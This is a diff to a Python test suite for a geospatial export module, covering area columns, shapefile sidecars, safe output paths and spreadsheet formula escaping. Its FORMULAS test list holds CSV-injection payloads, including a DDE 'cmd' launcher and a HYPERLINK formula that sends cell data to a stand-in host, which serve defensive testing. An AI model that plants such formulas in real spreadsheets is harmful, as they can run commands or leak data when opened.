@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import os
 import re
 import sqlite3
 from pathlib import Path
@@ -101,7 +102,8 @@ def test_zipped_shapefile_has_prj_and_utf8_cpg(store: GeoPackageStore, tmp_path:
     out = tmp_path / "lots.zip"
     result = export_layer(store, "cluster_lots", "shp", out)
     names = zipfile.ZipFile(out).namelist()
-    assert sorted(n.rsplit(".", 1)[1] for n in names) == ["cpg", "dbf", "prj", "shp", "shx"]
+    # .json: the full field names the 10-character DBF cut (geom_quality ...), read back by the importer
+    assert sorted(n.rsplit(".", 1)[1] for n in names) == ["cpg", "dbf", "json", "prj", "shp", "shx"]
     assert zipfile.ZipFile(out).read("cluster_lots.cpg").strip() == b"UTF-8"
     assert any("10 characters" in w for w in result.warnings)
 
@@ -174,3 +176,188 @@ def test_table_areas_are_rounded_to_square_metres(tmp_path: Path, fmt: str) -> N
         assert re.fullmatch(r"\d+(\.\d{1,4})?", text), text
     np.testing.assert_allclose(table["area_ha"].astype(float), raw, atol=5e-5)
     assert float(table["measured"][0]) == 64.9999999236553  # a stored value is written as stored
+
+
+# --- measured areas only for measured shapes (issue 14) ------------------------------------------------------
+
+
+def _read_table(path: Path, fmt: str) -> pd.DataFrame:
+    return pd.read_csv(path, encoding="utf-8-sig") if fmt == "csv" else pd.read_excel(path)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_tables_give_no_area_for_schematic_shapes(tmp_path: Path, fmt: str) -> None:
+    """A district-wide zone drawn as the whole schematic district (~129,587 ha) must not export that as its area."""
+    from layers.authored import load_layer
+    from layers.settings import DATA_DIR
+
+    zones = load_layer(CATALOGUE.get("material_zones_plan"), DATA_DIR)
+    out = tmp_path / f"zones{SUFFIX[fmt]}"
+    result = export_frame(zones, fmt, out)
+    table = _read_table(out, fmt).set_index("id")
+    que = table.loc["mz_district_que"]
+    assert que["planned_ha"] == 21184.07  # the plan's figure stays
+    assert pd.isna(que["area_ha"])  # not the schematic district's 129,587 ha
+    assert "schematic" in que["area_ha_note"] and "surveyed" in que["area_ha_note"]
+    assert table["area_ha"].isna().all()
+    located = zones.set_index("id").geometry.notna()
+    assert table.loc[located[located].index, "area_ha_note"].notna().all()
+    assert pd.isna(table.loc["mz_che", "area_ha_note"])  # unlocated: no shape, nothing to explain
+    assert any("area_ha left empty for 10 of 11 features" in w for w in result.warnings)
+
+
+def test_tables_measure_surveyed_and_digitised_shapes_only(tmp_path: Path) -> None:
+    lots = _lots().assign(geom_quality=["surveyed", "digitised", "approximate"])
+    out = tmp_path / "lots.csv"
+    result = export_frame(lots, "csv", out)
+    table = _read_table(out, "csv").set_index("id")
+    assert table.loc["L1", "area_ha"] == pytest.approx(1.0) and table.loc["L2", "area_ha"] == pytest.approx(4.0)
+    assert pd.isna(table.loc["L3", "area_ha"]) and "'approximate'" in table.loc["L3", "area_ha_note"]
+    assert table.loc[["L1", "L2"], "area_ha_note"].isna().all()
+    assert any("1 of 3 features" in w for w in result.warnings)
+    # all measured: no note column and no warning
+    clean = export_frame(_lots(), "csv", tmp_path / "clean.csv")
+    assert "area_ha_note" not in _read_table(tmp_path / "clean.csv", "csv").columns
+    assert not any("area_ha" in w for w in clean.warnings)
+
+
+# --- issue 14: no live formula in a spreadsheet, and an export never destroys the store ----------------------
+
+#: text a spreadsheet would run as a formula (OWASP CSV injection), also after a leading tab, CR or spaces
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?x="&A1,"mở")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "＝1+1",
+]
+PLAIN = ["Công ty =TNHH", "-5", "+84", "3.5", "Nhôm kính"]
+
+
+def _hostile_lots() -> gpd.GeoDataFrame:
+    n = len(FORMULAS) + len(PLAIN)
+    return gpd.GeoDataFrame(
+        {
+            "id": [f"L{i}" for i in range(n)],
+            "tenant": FORMULAS + PLAIN,
+            "geom_quality": ["surveyed"] * n,
+            "delta": [-5.0, 1.5] * (n // 2) + [-1.0] * (n % 2),
+        },
+        geometry=[square(E0 + 500 * i, side_m=100.0) for i in range(n)],
+        crs=9208,
+    )
+
+
+def test_formula_text_is_told_apart_from_numbers_and_plain_text() -> None:
+    from layers.export import is_formula_text, safe_cell
+
+    assert all(is_formula_text(v) for v in FORMULAS)
+    assert not any(is_formula_text(v) for v in PLAIN)
+    assert not any(is_formula_text(v) for v in (-5, 1.5, None, "", True))
+    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-5") == "-5" and safe_cell(-5.0) == -5.0
+
+
+def test_csv_cells_that_would_run_begin_with_a_quote(tmp_path: Path) -> None:
+    import csv
+
+    out = tmp_path / "lots.csv"
+    result = export_frame(_hostile_lots(), "csv", out)
+    with out.open(encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.DictReader(f))
+    tenants = [r["tenant"] for r in rows]
+    assert tenants[: len(FORMULAS)] == ["'" + v for v in FORMULAS]  # the value stays readable after the quote
+    assert tenants[len(FORMULAS) :] == PLAIN
+    assert [r["delta"] for r in rows][:2] == ["-5.0", "1.5"]  # numbers stay numbers
+    assert any(f"{len(FORMULAS)} text cell(s) begin like a spreadsheet formula" in w for w in result.warnings)
+
+
+def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    out = tmp_path / "lots.xlsx"
+    export_frame(_hostile_lots(), "xlsx", out)
+    sheet = load_workbook(out)["data"]
+    header = [c.value for c in sheet[1]]
+    cells = [row[header.index("tenant")] for row in sheet.iter_rows(min_row=2)]
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    assert [c.value for c in cells] == FORMULAS + PLAIN  # as typed, no quote added
+    assert all(c.data_type == "s" for c in cells)
+    assert all(c.quotePrefix for c in cells[: len(FORMULAS)] if c.value.lstrip(" \t\r").startswith(("=", "＝")))
+    deltas = [row[header.index("delta")] for row in sheet.iter_rows(min_row=2)]
+    assert deltas[0].value == -5.0 and deltas[0].data_type == "n"
+
+
+def test_an_export_is_refused_over_the_store_and_its_files(store: GeoPackageStore, tmp_path: Path) -> None:
+    history = [v.version for v in store.history("cluster_lots")]
+    link = tmp_path / "link.gpkg"
+    link.symlink_to(store.path)
+    wal, shm = Path(f"{store.path}-wal"), Path(f"{store.path}-shm")
+    for target in (store.path, wal, shm, link, tmp_path / "." / "store.gpkg"):
+        for fmt in ("gpkg", "csv"):
+            with pytest.raises(InputDataError) as info:
+                export_layer(store, "cluster_lots", fmt, target)
+            assert info.value.code == "export.onto_store", target
+    assert [v.version for v in GeoPackageStore(store.path).history("cluster_lots")] == history
+    assert link.is_symlink() and not Path(f"{store.path}-journal").exists()
+
+
+@pytest.mark.parametrize(
+    ("where", "code"),
+    [(".", "export.is_directory"), ("pipe", "export.not_a_file"), ("a" * 300 + ".csv", "export.name_too_long")],
+)
+def test_an_export_names_a_regular_file(store: GeoPackageStore, tmp_path: Path, where: str, code: str) -> None:
+    target = tmp_path / where
+    if where == "pipe":  # a named pipe stands for any device (never a real one: a failing test would replace it)
+        os.mkfifo(target)
+    with pytest.raises(InputDataError) as info:
+        export_layer(store, "cluster_lots", "csv", target)
+    assert info.value.code == code
+    expected = ["pipe", "store.gpkg"] if where == "pipe" else ["store.gpkg"]
+    assert sorted(p.name for p in tmp_path.iterdir()) == expected  # no temporary file left behind
+    assert where != "pipe" or not target.is_file()  # the pipe is still a pipe
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_an_existing_file_is_replaced_whole_and_said_so(store: GeoPackageStore, tmp_path: Path, fmt: str) -> None:
+    out = tmp_path / f"lots{SUFFIX[fmt]}"
+    first = export_layer(store, "cluster_lots", fmt, out)
+    assert not any("replaced" in w for w in first.warnings)
+    out.write_bytes(b"an older export")
+    again = export_layer(store, "cluster_lots", fmt, out)
+    assert any(f"{out} existed and was replaced" in w for w in again.warnings)
+    assert out.read_bytes() != b"an older export" and out.stat().st_size > 100
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["store.gpkg", out.name])
+
+
+def test_a_failed_export_leaves_the_old_file(
+    store: GeoPackageStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import errno
+
+    import layers.export as export_module
+
+    out = tmp_path / "lots.csv"
+    out.write_text("kept")
+
+    def full(*args: object, **kwargs: object) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(export_module, "_write_table", full)
+    with pytest.raises(OSError) as info:
+        export_layer(store, "cluster_lots", "csv", out)
+    assert getattr(info.value, "code", None) == "export.disk_full" and "disk is full" in str(info.value)
+    assert out.read_text() == "kept" and sorted(p.name for p in tmp_path.iterdir()) == ["lots.csv", "store.gpkg"]
+
+
+def test_the_use_case_refuses_the_store_too(store: GeoPackageStore, tmp_path: Path) -> None:
+    from services.data import export
+
+    with pytest.raises(InputDataError) as info:
+        export(store, "cluster_lots", "gpkg", store.path, crs="EPSG:9208")
+    assert info.value.code == "export.onto_store"
+    with pytest.raises(InputDataError) as info:
+        export(store, "cluster_lots", "csv", tmp_path / "lots.csv" / "x.csv", crs="EPSG:9208")  # a file: no folder
+    assert info.value.code == "export.no_folder"
